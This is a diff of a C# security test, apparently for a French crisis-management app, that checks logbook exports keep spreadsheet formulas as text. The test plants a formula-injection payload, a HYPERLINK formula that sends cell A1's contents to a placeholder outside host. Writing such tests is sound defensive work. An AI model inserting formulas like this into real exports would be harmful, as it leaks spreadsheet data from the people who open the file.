@@ -75,7 +75,7 @@ public sealed partial class SecurityHeadersTests : IAsyncLifetime
     public async Task The_logbook_export_is_never_stored_and_its_formulas_are_text()
     {
         var crisis = await _app.Services.GetRequiredService<CrisisCommands>().OpenAsync(Sdis77, new CrisisDraft(
-            "Crue de la Marne", CrisisType.Inondation, null, [Domain.Access.Jurisdiction.Commune("77108")], DateTimeOffset.UtcNow, false));
+            "Crue de la Marne", CrisisType.Flood, null, [Domain.Access.Jurisdiction.Commune("77108")], DateTimeOffset.UtcNow, false));
         await _app.Services.GetRequiredService<ILogbook>().AppendAsync(crisis.Id, Sdis77, LogbookEntryKind.Decision,
             "=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"Détails\")");
         using var client = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = _base };
